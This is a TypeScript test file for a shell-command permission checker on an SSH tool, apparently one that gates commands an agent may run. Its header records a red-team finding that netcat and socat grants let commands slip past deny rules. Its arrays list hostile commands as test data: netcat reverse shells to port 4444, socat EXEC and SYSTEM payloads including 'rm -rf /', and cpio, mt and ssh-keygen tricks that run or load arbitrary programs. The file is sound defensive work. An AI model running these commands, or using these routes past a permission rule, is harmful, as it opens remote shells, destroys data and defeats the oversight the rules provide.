/**
 * Red-team finding: netcat and socat run a program their arguments name. A grant of `nc` or
 * `socat` for a port check (`nc -zv db 5432`, `socat - TCP:db:5432`) allowed `nc -e /bin/sh h
 * 4444` and `socat - EXEC:'rm -rf /'` (checked against socat 1.7.4), and a deny rule naming
 * `sh` did not see the shell behind them. Likewise cpio's and mt's --rsh-command (checked against
 * GNU cpio 2.13: it ran the program for `-F localhost:/x`) and the libraries ssh-keygen and ssh-add load.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { initShellParser, parseShell, shellCondition } from '../../../tools/shared/shell/index.js';
import { shellVerdicts } from '../../support/shell-verdicts.js';

const CALL = { tool: 'ssh_run', connection: 'web-1', args: {} };
const denies = (block: unknown, cmd: string): boolean => shellCondition.compile(block, { id: 'd', effect: 'deny' })(parseShell(cmd), CALL).matched;

const NETCAT = [
  'nc -e /bin/sh h 4444', 'nc -lvnp 4444 -e /bin/sh', 'nc -c id h 4444', 'netcat -e sh h 1', 'nc.traditional -e sh h 1',
  'ncat --exec /bin/sh h 1', 'ncat --sh-exec id h 1', 'ncat --sh=id h 1', 'ncat --lua-exec x.lua h 1', 'ncat -c id h 1', 'ncat -e /bin/sh h 1',
];
const SOCAT = [
  'socat - EXEC:id', 'socat - exec:id', "socat - 'SYSTEM:id; id'", 'socat TCP-LISTEN:9,fork EXEC:/bin/sh', 'socat STDIO!!EXEC:sh -',
  "socat - '\"exec\":id'", "socat - ' EXEC:id'", 'socat - EXEC,pty:sh', 'socat - SHELL:id',
];

before(async () => {
  await initShellParser();
});

const LOADERS = [
  'cpio -o --rsh-command=/tmp/x -F localhost:/x', 'cpio -i --rsh=/bin/sh -F h:/x', 'mt --rsh-command=/tmp/x -f localhost:/x status',
  'ssh-keygen -D /tmp/x.so', 'ssh-keygen -t ed25519-sk -w /tmp/x.so', 'ssh-add -s /tmp/x.so', 'ssh-add -S /tmp/x.so',
];

describe('netcat and socat', () => {
  it('an allow never grants the program they run', () => {
    const { refuse, allow } = shellVerdicts({ programs: { nc: {}, netcat: {}, 'nc.traditional': {}, ncat: {}, socat: {} } });
    refuse(NETCAT, /Always denied: (nc|netcat|nc\.traditional|ncat) (-e|-c|--exec|--sh-exec|--lua-exec) /);
    refuse(SOCAT, /Always denied: socat address .* runs a program/);
    refuse(LOADERS, /Always denied: (cpio|mt|ssh-keygen|ssh-add) /, { programs: { cpio: {}, mt: {}, 'ssh-keygen': {}, 'ssh-add': {} } });
    allow(['nc -zv db 5432', 'nc -w 3 -z db 5432', 'ncat -zv db 5432', 'socat -d -d - TCP:db:5432', 'socat -T5 - TCP4:db:5432,connect-timeout=3']);
  });

  it('to a deny rule they run any program', () => {
    for (const cmd of [...NETCAT, ...SOCAT, ...LOADERS]) assert.equal(denies({ programs: { rm: {} } }, cmd), true, cmd);
    for (const cmd of ['nc -zv db 5432', 'socat - TCP:db:5432']) assert.equal(denies({ programs: { rm: {} } }, cmd), false, cmd);
  });
});
